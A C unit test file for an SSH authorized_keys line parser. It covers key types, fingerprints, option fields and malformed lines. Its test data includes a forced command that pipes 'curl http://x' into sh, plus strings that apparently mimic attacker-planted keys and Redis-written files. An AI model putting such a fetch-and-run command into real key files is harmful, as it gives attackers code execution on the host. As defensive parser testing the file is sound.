/*
 * test_ssh_parse.c - collect/ssh_parse.c: authorized_keys lines with and
 * without options, fingerprints as ssh-keygen -l prints them, and the
 * lines sshd would reject.
 */
#include "collect/ssh_parse.h"
#include "testlib.h"

#define K1 "AAAAC3NzaC1lZDI1NTE5AAAAIMs56zHlK6MdnWptnFMjvLg5zDeO8BJlS9lJv9xJ/tSH"
#define FP1 "SHA256:4fScmOar4GLDeXbSV9R3O286bqcq/DHCaDZy+w7iKRs"

static void
parse(const char *text, struct ssh_key_line *l)
{
	size_t n = strlen(text);
	char *b = xmalloc(n ? n : 1);

	memcpy(b, text, n);
	sshparse_key_line(b, n, l);
	free(b);
}

static void
test_plain_keys(void **state)
{
	struct ssh_key_line l;

	(void)state;
	/* made by ssh-keygen -t ed25519 -C admin@laptop; ssh-keygen -lf
	 * printed 256 SHA256:4fSc... admin@laptop (ED25519) */
	parse("ssh-ed25519 " K1 " admin@laptop", &l);
	assert_int_equal(l.kind, SSHL_KEY);
	assert_string_equal(l.type, "ssh-ed25519");
	assert_string_equal(l.fingerprint, FP1);
	assert_string_equal(l.comment, "admin@laptop");
	assert_false(l.has_options);
	parse("  ssh-ed25519\t" K1 "\r", &l);
	assert_int_equal(l.kind, SSHL_KEY);
	assert_string_equal(l.fingerprint, FP1);
	assert_string_equal(l.comment, "");
	parse("ssh-rsa " K1 " mdrfckr", &l);
	assert_string_equal(l.comment, "mdrfckr");
	parse("# ssh-ed25519 " K1, &l);
	assert_int_equal(l.kind, SSHL_BLANK);
	parse("", &l);
	assert_int_equal(l.kind, SSHL_BLANK);
}

static void
test_options(void **state)
{
	struct ssh_key_line l;

	(void)state;
	/* Debian's cloud images: root gets a stub */
	parse("no-port-forwarding,no-agent-forwarding,no-X11-forwarding,"
	    "command=\"echo 'Please login as the user \\\"admin\\\" rather than "
	    "the user \\\"root\\\".';echo;sleep 10;exit 142\" ssh-ed25519 " K1
	    " cloud", &l);
	assert_int_equal(l.kind, SSHL_KEY);
	assert_true(l.has_options);
	assert_string_equal(l.command, "echo 'Please login as the user "
	    "\"admin\" rather than the user \"root\".';echo;sleep 10;exit 142");
	assert_string_equal(l.fingerprint, FP1);
	parse("from=\"10.0.0.0/8,!10.0.0.1\",environment=\"A=b c\","
	    "permitopen=\"localhost:80\" ssh-ed25519 " K1, &l);
	assert_int_equal(l.kind, SSHL_KEY);
	assert_string_equal(l.from, "10.0.0.0/8,!10.0.0.1");
	assert_true(l.environment);
	assert_true(l.tunnel);
	parse("COMMAND=\"curl http://x | sh\" ssh-rsa " K1, &l);
	assert_string_equal(l.command, "curl http://x | sh");
}

static void
test_invalid(void **state)
{
	struct ssh_key_line l;

	(void)state;
	parse("ssh-ed25519", &l);                     /* no key */
	assert_int_equal(l.kind, SSHL_INVALID);
	parse("ssh-ed25519 !!!notbase64", &l);
	assert_int_equal(l.kind, SSHL_INVALID);
	parse("command=\"unterminated ssh-ed25519 " K1, &l);
	assert_int_equal(l.kind, SSHL_INVALID);
	parse("foo-key " K1, &l);                     /* unknown type */
	assert_int_equal(l.kind, SSHL_INVALID);
	parse("REDIS0009\xfa\tredis-ver", &l);
	assert_int_equal(l.kind, SSHL_INVALID);
	/* control bytes in a comment are made printable */
	parse("ssh-ed25519 " K1 " a\x1b[31mb", &l);
	assert_int_equal(l.kind, SSHL_KEY);
	assert_string_equal(l.comment, "a?[31mb");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_plain_keys),
		cmocka_unit_test(test_options),
		cmocka_unit_test(test_invalid),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
